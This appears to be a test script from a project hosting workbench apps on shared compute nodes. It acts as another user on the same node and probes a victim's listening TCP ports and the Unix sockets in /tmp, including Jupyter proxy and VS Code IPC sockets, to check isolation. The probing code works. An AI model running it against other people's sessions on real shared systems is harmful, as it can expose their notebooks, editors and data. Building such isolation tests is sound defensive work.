"""What another user with a job on the same node tries against a user's workbench apps.

Run as the attacker inside their own job, standalone (no imports from the project):

    srun ... python3 -I app_attacker.py VICTIM_UID

1. Every TCP port the victim listens on in the node's network (/proc/net/tcp, tcp6 name the owner):
   connect, ask `GET /` (following redirects on that port), keep the answer.
2. Every socket folder jupyter-server-proxy made in the node's /tmp (anyone may list /tmp), and every other
   socket in /tmp (VS Code's IPC sockets for its `code` command live there): connect, keep the error.

Prints one JSON object: {"ports": {port: answer}, "sockets": [[path, owner uid, result]]}.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import stat
import sys

REQUEST = b"GET / HTTP/1.0\r\nHost: localhost\r\n\r\n"  # what a socket that lets them in is asked


def listening(uid: int) -> dict[int, str]:
    """{port: address to connect to} of the TCP sockets `uid` listens on."""
    found = {}
    for table, family in (("/proc/net/tcp", "4"), ("/proc/net/tcp6", "6")):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 7 and fields[3] == "0A" and int(fields[7]) == uid:
                address, port = fields[1].rsplit(":", 1)
                ip = ".".join(str(b) for b in reversed(bytes.fromhex(address))) if family == "4" else "::1"
                found[int(port, 16)] = "127.0.0.1" if ip == "0.0.0.0" else ip
    return found


def ask(address: str, port: int, path: str = "/", hops: int = 3) -> str:
    """The answer to `GET path`, following the server's redirects on the same port (code-server's `/` is one)."""
    try:
        with socket.create_connection((address, port), timeout=3) as s:
            s.sendall(f"GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n".encode())
            data = b""
            while len(data) < 65536:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError as e:
        return f"error: {e}"
    text = data.decode("latin-1")
    location = next((line.split(":", 1)[1].strip() for line in text.split("\r\n\r\n")[0].splitlines()
                     if line.lower().startswith("location:")), "")
    if hops and text.startswith("HTTP/1.") and text[9:10] == "3" and location and "://" not in location:
        return ask(address, port, "/" + location.lstrip("./"), hops - 1)
    return text


def try_socket(path: str) -> str:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(path)
        s.sendall(REQUEST)
        return "CONNECTED: " + s.recv(2048).decode("latin-1")
    except OSError as e:
        return os.strerror(e.errno) if e.errno else str(e)
    finally:
        s.close()


def main(victim_uid: int) -> None:
    ports = {port: ask(address, port) for port, address in listening(victim_uid).items()}
    sockets = []
    for folder in sorted(glob.glob("/tmp/jupyter-server-proxy-*")):
        try:
            owner = os.stat(folder).st_uid
        except OSError:
            continue
        sockets.append([f"{folder}/socket", owner, try_socket(f"{folder}/socket")])
    for path in sorted(glob.glob("/tmp/*")):
        try:
            st = os.lstat(path)
        except OSError:
            continue
        if stat.S_ISSOCK(st.st_mode):
            sockets.append([path, st.st_uid, try_socket(path)])
    print(json.dumps({"ports": ports, "sockets": sockets}))


if __name__ == "__main__":
    main(int(sys.argv[1]))
